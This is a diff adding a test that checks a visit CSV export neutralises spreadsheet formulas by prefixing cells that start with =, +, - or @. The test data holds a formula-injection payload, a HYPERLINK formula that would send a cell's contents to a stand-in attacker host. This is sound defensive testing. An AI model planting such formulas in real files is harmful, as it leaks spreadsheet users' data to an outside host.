@@ -259,6 +259,29 @@ def test_the_export_is_one_row_per_visit_and_reads_back(
     assert report.is_valid and len(report.rows) == 12
 
 
+def test_the_export_neutralises_formulas_and_reads_back(
+    client, operator, coordinator, agent, topics, past_stops
+):
+    """A note or a name starting with = + - @ would run as a formula in a spreadsheet."""
+    SiteFactory(operator=operator, name='=HYPERLINK("http://x")', slug="piege")
+    note = '=HYPERLINK("http://evil.example/?"&A1)'
+    services.visits_import(
+        operator=operator,
+        user=agent,
+        name="v.csv",
+        content=_csv([_line(past_stops[0], 1, note=note), _line(past_stops[1], 2, note="- CAF")]),
+    )
+    client.force_login(coordinator)
+    body = client.get(reverse("reception:visit_export")).content
+    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=";"))
+    notes = [row[rows[0].index("note")] for row in rows[1:]]
+    assert notes == ["'" + note, "'- CAF"]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
+    report = visits_check(operator=operator, name="export.csv", content=body)
+    assert report.is_valid
+    assert [row.answers["note"] for row in report.rows] == [note, "- CAF"]
+
+
 def test_the_export_is_for_the_coordinator_only(client, operator, make_member):
     client.force_login(make_member(operator, Role.AGENT))
     assert client.get(reverse("reception:visit_export")).status_code == 403
